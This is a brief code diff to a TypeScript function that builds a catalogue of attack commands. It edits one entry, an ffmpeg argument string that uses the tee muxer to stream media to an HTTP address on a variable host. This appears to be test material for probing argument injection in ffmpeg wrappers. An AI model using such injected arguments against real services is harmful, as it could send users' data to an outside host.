@@ -221,9 +221,9 @@ export function attackCommands(targets: AttackTargets): AttackCommand[] {
   )
   add(
     'N08',
-    `-i in.mp4 -c copy -f tee '[f=mpegts]http://${host}/t|o2.ts'`,
+    `-i in.mp4 -map 0 -c copy -f tee '[f=mpegts]http://${host}/t|o2.ts'`,
     `http://${host}/t`,
-    "-i in.mp4 -c copy -f tee '[f=mpegts]t|o2.ts'",
+    "-i in.mp4 -map 0 -c copy -f tee '[f=mpegts]t|o2.ts'",
   )
   add(
     'X01',
